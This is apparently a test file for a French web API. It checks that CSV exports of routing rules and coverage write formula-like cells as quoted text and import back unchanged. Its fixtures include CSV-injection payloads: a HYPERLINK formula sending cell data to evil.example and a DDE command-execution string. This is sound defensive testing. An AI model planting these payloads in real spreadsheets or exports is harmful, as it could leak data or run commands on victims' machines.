import t from 'tap'
import { parse } from 'csv-parse/sync'
import { buildApp } from '@relais/api/app'
import { createTestEnv } from '../helpers/db.ts'
import { accessToken, auth } from '../helpers/security.ts'

// A name typed by someone is never run by the spreadsheet that opens an export: cells that a spreadsheet would
// take for a formula are written as text, and the file still imports back as it was.

const env = await createTestEnv()
const app = await buildApp(env.config, { logger: false })
t.teardown(async () => { await app.close(); await env.drop() })
const tic = await accessToken(app, 'tic@indre.demo')
const call = (method: string, url: string, payload?: object) => app.inject({ method: method as 'POST', url: `/api/v1${url}`, headers: auth(tic), ...(payload ? { payload } : {}) })

// Names are trimmed when stored: a leading tab or CR cannot reach the file through them (writeCsv covers them anyway).
const HOSTILE = ['=HYPERLINK("https://evil.example/?v="&A1;"Cliquez ici")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+33 2 54 00 00 00', '-2+3']
const FORMULA = /^[=+\-@\t\r]/

t.test('routing rules and coverage exports write formulas as text', async (t) => {
  for (const [i, name] of HOSTILE.entries()) {
    const org = await call('POST', '/organisations', { kind: 'partner', name })
    t.equal(org.statusCode, 201, `organisation ${JSON.stringify(name)}: ${org.body}`)
    t.equal((await call('PATCH', `/organisations/${org.json().id}`, { status: 'active' })).statusCode, 200)
    const theme = await call('POST', '/themes', { code: `piege-${i}`, label: `Thème piégé ${i}` })
    t.equal(theme.statusCode, 201, theme.body)
    for (const what of ['/routing-rules', '/coverage']) {
      const res = await call('POST', what, { themeCode: `piege-${i}`, territoryKind: 'departement', territoryCode: '36', organisationId: org.json().id })
      t.equal(res.statusCode, 201, `${what}: ${res.body}`)
    }
  }
  for (const what of ['routing-rules', 'coverage']) {
    const res = await call('GET', `/${what}.csv`)
    t.equal(res.statusCode, 200)
    const cells = (parse(res.body, { delimiter: ';', bom: true, relax_column_count: true }) as string[][]).flat()
    const running = cells.filter((c) => FORMULA.test(c))
    t.comment(`${what}.csv: ${running.length} of ${cells.length} cells a spreadsheet would run as formulas`)
    t.same(running, [], `${what}.csv: no cell starts a formula`)
    for (const name of HOSTILE) t.ok(cells.includes(`'${name}`), `${what}.csv: ${JSON.stringify(name)} is written as text`)

    // The export imports back unchanged: the quote is taken off again.
    const before = (await call('GET', `/${what}?limit=500`)).json().items.map((r: Record<string, unknown>) => `${r.themeCode}|${r.organisationName}`).sort()
    const imported = await app.inject({ method: 'POST', url: `/api/v1/${what}/import`, headers: { ...auth(tic), 'content-type': 'text/csv; charset=utf-8' }, payload: res.body })
    t.equal(imported.statusCode, 200, `${what}: the export imports back (${imported.body.slice(0, 300)})`)
    const after = (await call('GET', `/${what}?limit=500`)).json().items.map((r: Record<string, unknown>) => `${r.themeCode}|${r.organisationName}`).sort()
    t.same(after, before, `${what}: the same content after the round trip`)
  }
})

t.test('one function writes every cell: tab and CR first are neutralised too, and read back', async (t) => {
  const { spreadsheetCell, fromSpreadsheetCell, writeCsv } = await import('@relais/core/csv')
  for (const v of ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1']) {
    t.equal(spreadsheetCell(v), `'${v}`, JSON.stringify(v))
    t.equal(fromSpreadsheetCell(spreadsheetCell(v)), v, `${JSON.stringify(v)} read back`)
  }
  for (const v of ['CAF de l’Indre', "l'Indre", '36', '', 'a=b']) t.equal(spreadsheetCell(v), v, `${JSON.stringify(v)} unchanged`)
  t.equal(writeCsv(['a', 'b'], [['=1+1', null]]), "\uFEFFa;b\r\n'=1+1;\r\n")
})
